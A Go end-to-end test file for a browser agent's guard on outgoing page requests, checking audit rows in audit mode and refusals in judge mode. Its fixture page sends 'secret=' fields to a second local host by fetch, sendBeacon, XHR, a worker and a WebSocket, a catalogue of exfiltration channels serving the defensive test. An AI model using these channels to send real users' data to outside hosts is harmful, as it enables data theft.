package e2e

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/coder/websocket"
)

// sendSites: A is the page the agent navigated to; C is a site the session
// holds nothing for, which counts every send that reaches it. The page on A
// sends to C in each way a page can without a navigation, when its button
// is clicked.
func sendSites(t *testing.T) (a, c *site) {
	a = newSite(t, "127.0.0.1")
	c = newSite(t, "127.0.0.3")
	cors := func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		fmt.Fprint(w, "ok")
	}
	for _, p := range []string{"/fetch", "/keepalive", "/beacon", "/xhr", "/worker", "/get"} {
		c.handle(p, cors)
	}
	c.handle("/ws", func(w http.ResponseWriter, r *http.Request) {
		ws, err := websocket.Accept(w, r, &websocket.AcceptOptions{InsecureSkipVerify: true})
		if err != nil {
			return
		}
		ws.Close(websocket.StatusNormalClosure, "")
	})
	a.handle("/own", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "ok") })
	a.handle("/worker.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, `fetch(%q, {method: "POST", body: "from a worker", mode: "no-cors"});`, c.URL+"/worker")
	})
	a.page("/page", fmt.Sprintf(`<!doctype html><title>sender</title><button id=go>Save</button><script>
const C = %q;
document.getElementById("go").onclick = () => {
  fetch(C + "/fetch", {method: "POST", body: "secret=1", mode: "no-cors"});
  fetch(C + "/keepalive", {method: "POST", body: "secret=2", keepalive: true, mode: "no-cors"});
  navigator.sendBeacon(C + "/beacon", "secret=3");
  const x = new XMLHttpRequest(); x.open("PUT", C + "/xhr"); x.send("secret=4");
  new Worker("/worker.js");
  new WebSocket(C.replace("http", "ws") + "/ws");
  fetch(C + "/get?q=1", {mode: "no-cors"});
  fetch("/own", {method: "POST", body: "mine"});
};
</script>`, c.URL))
	return a, c
}

var sendPaths = []string{"/fetch", "/keepalive", "/beacon", "/xhr", "/worker"}

// TestSendsAreRecorded: every send a page makes that is not a document and
// not a GET is an audit row (method, destination origin, sender, tab, the
// call it followed), read from the browser's events without holding
// anything: by default (audit) they all arrive.
func TestSendsAreRecorded(t *testing.T) {
	parallel(t)
	needBrowser(t)
	a, c := sendSites(t)
	dir := t.TempDir()
	cs := connectStdio(t, dir, proto2026)
	wantStatus(t, call(t, cs, "navigate", map[string]any{"url": a.URL + "/page"}), "ok")
	wantStatus(t, call(t, cs, "click", map[string]any{"selector": "#go"}), "ok")
	waitFor(t, "every send to arrive", 15*time.Second, func() bool {
		for _, p := range append(sendPaths, "/ws") {
			if c.count(p) == 0 {
				return false
			}
		}
		return a.count("/own") > 0
	})
	var rows []map[string]any
	waitFor(t, "a send row for each", 10*time.Second, func() bool {
		rows = rowsWhere(auditRows(t, dir), has{"kind": "send"})
		return len(rows) >= 7 // five to C, the WebSocket, the page's own
	})
	byMethod := map[string]int{}
	for _, r := range rows {
		t.Logf("send row: %s %s from %v on %v after %v (%s)", r["method"], r["destination"], r["sender"], r["target_type"], r["after_call"], r["resource_type"])
		byMethod[fmt.Sprint(r["method"])]++
		if r["status"] != "recorded" {
			t.Errorf("audit mode refused or held a send: %v", r)
		}
		if strings.Contains(jsonString(r), "secret=") || strings.Contains(jsonString(r), "/fetch") {
			t.Errorf("a send row carries more than the destination origin: %v", r)
		}
		if r["target_type"] == "page" && (r["tab_id"] == nil || r["after_call"] != "click") {
			t.Errorf("a page's send row lacks its tab or the call it followed: %v", r)
		}
	}
	if byMethod["POST"] < 5 || byMethod["PUT"] != 1 || byMethod["WEBSOCKET"] != 1 {
		t.Errorf("send rows by method: %v, want 5+ POST (fetch, keepalive, beacon, worker, own), 1 PUT, 1 WEBSOCKET", byMethod)
	}
	for _, r := range rows {
		if r["sender"] != a.URL {
			t.Errorf("sender: %v, want %s", r["sender"], a.URL)
		}
		if d := fmt.Sprint(r["destination"]); d != c.URL && d != a.URL && d != strings.Replace(c.URL, "http", "ws", 1) {
			t.Errorf("destination %s is not an origin of the test", d)
		}
	}
	if c.count("/get") != 1 {
		t.Errorf("the GET fetch: %d", c.count("/get"))
	}
	for _, r := range rows {
		if strings.Contains(fmt.Sprint(r["destination"]), "/get") {
			t.Errorf("a GET was recorded as a send: %v", r)
		}
	}
}

// TestSendsJudged: with LYRA_BROWSER_GUARD_SENDS=judge, the non-GET sends
// to a site the session holds no grant for are held and refused: 0 reach
// it. The page's own site (granted by the navigation) still gets its send,
// a GET still goes, and a WebSocket, which the browser does not let a
// client hold, is recorded only.
func TestSendsJudged(t *testing.T) {
	parallel(t)
	needBrowser(t)
	a, c := sendSites(t)
	dir := t.TempDir()
	cs := connectStdio(t, dir, proto2026, "LYRA_BROWSER_GUARD_SENDS=judge")
	wantStatus(t, call(t, cs, "navigate", map[string]any{"url": a.URL + "/page"}), "ok")
	wantStatus(t, call(t, cs, "click", map[string]any{"selector": "#go"}), "ok")
	waitFor(t, "the page's own send and the GET", 15*time.Second, func() bool { return a.count("/own") == 1 && c.count("/get") == 1 })
	waitFor(t, "a refusal row for each send to C", 15*time.Second, func() bool {
		n := 0
		for _, r := range rowsWhere(auditRows(t, dir), has{"kind": "send"}) {
			if r["status"] == "deny" {
				n++
			}
		}
		return n >= len(sendPaths)
	})
	time.Sleep(500 * time.Millisecond)
	reached := 0
	for _, p := range sendPaths {
		reached += c.count(p)
	}
	t.Logf("judge mode: %d of %d sends to the ungranted site reached it; WebSocket %d (recorded only)", reached, len(sendPaths), c.count("/ws"))
	if reached != 0 {
		t.Errorf("%d sends reached the ungranted site", reached)
	}
	for _, r := range rowsWhere(auditRows(t, dir), has{"kind": "send"}) {
		if r["destination"] == a.URL && r["status"] != "allow" {
			t.Errorf("the page's own granted site: %v", r)
		}
		if r["method"] == "WEBSOCKET" && r["status"] != "recorded" {
			t.Errorf("websocket: %v", r)
		}
	}
	// The tab did not move, and the call was answered as the click it was.
	if env := call(t, cs, "get_url", nil); env["url"] != a.URL+"/page" {
		t.Errorf("after refused sends: %v", env)
	}
}
